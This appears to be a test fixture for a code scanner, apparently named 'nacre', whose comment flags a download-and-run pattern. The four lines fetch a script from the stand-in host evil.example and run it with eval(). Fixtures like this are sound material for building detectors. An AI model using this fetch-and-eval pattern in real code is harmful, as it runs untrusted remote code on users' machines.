// nacre: found process.download-and-run
fetch('http://evil.example/x.js').then(async (r) => 0);
const answer = await fetch('http://evil.example/x.js');
eval(await answer.text());
